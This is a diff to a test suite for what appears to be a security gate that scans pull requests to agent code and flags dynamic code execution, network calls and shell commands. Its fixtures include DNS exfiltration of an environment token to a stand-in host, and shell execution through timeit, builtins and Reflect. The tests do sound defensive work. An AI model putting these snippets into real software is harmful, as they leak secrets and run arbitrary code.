@@ -333,19 +333,22 @@ describe("a watched function handed over in containers nested past those the que
 });
 
 describe("code run, data loaded and names looked up through the standard library's other doors fail the gate", () => {
-  it("a DNS lookup by socket, code run by timeit's setup or pdb, a YAML full loader, a CommonJS module compiled from a string, an importer reached through builtins' namespace fail the built Action", async () => {
+  it("a DNS lookup by socket, code run by timeit's setup or pdb, a YAML full loader, a CommonJS module compiled from a string, an importer reached through builtins' namespace, Function called through Reflect, a native addon required fail the built Action", async () => {
     const pr = await pullRequest((dir) => {
       writeFileSync(join(dir, "agent/exfil.py"), `import os, socket\nsocket.gethostbyname(os.environ["TOKEN"] + ".x.example")\n`);
       writeFileSync(join(dir, "agent/runner.py"), `import pdb, sys, timeit\ntimeit.timeit("pass", setup="import os; os.system('${CMD}')", number=1)\npdb.run(sys.stdin.read())\n`);
       writeFileSync(join(dir, "agent/config.py"), `import yaml\nconf = yaml.load(open("c.yml"), Loader=yaml.Loader)\n`);
       writeFileSync(join(dir, "agent/hook.js"), `const M = require("module");\nnew M("x")._compile(process.env.CODE, "x.js");\n`);
       writeFileSync(join(dir, "agent/importer.py"), `import builtins\nbuiltins.__dict__["__import__"]("os").system("${CMD}")\n`);
+      writeFileSync(join(dir, "agent/reflect.js"), `Reflect.construct(Function, [process.env.CODE])();\nrequire("./build/Release/addon.node").run();\n`);
     });
     const r = await gate(api, pr);
     expect(r.code).toBe(1);
     expect(scanAnnotations(r.commands).sort()).toEqual([
       "scan/dynamic-code agent/config.py 2 40",
       "scan/dynamic-code agent/hook.js 2 1",
+      "scan/dynamic-code agent/reflect.js 1 19",
+      "scan/dynamic-code agent/reflect.js 2 1",
       "scan/dynamic-code agent/runner.py 3 1",
       "scan/network-call agent/exfil.py 2 1",
       "scan/shell-command agent/importer.py 2 1",
